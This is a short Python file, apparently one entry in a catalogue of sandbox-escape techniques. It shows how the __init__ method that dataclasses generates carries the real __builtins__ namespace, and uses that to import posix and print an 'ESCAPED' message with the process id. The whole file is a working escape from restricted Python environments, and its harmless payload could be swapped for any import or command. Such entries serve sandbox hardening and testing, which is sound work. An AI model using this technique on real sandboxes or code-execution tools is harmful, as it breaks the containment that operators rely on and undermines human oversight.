# technique: the methods that dataclasses generates carry its namespace
# goal: builtins
# source: own analysis: functions made by exec in trusted code
import dataclasses


@dataclasses.dataclass
class D:
    x: int


init = D.__init__
print('ESCAPED pid=%d' % init.__builtins__['__import__']('posix').getpid())
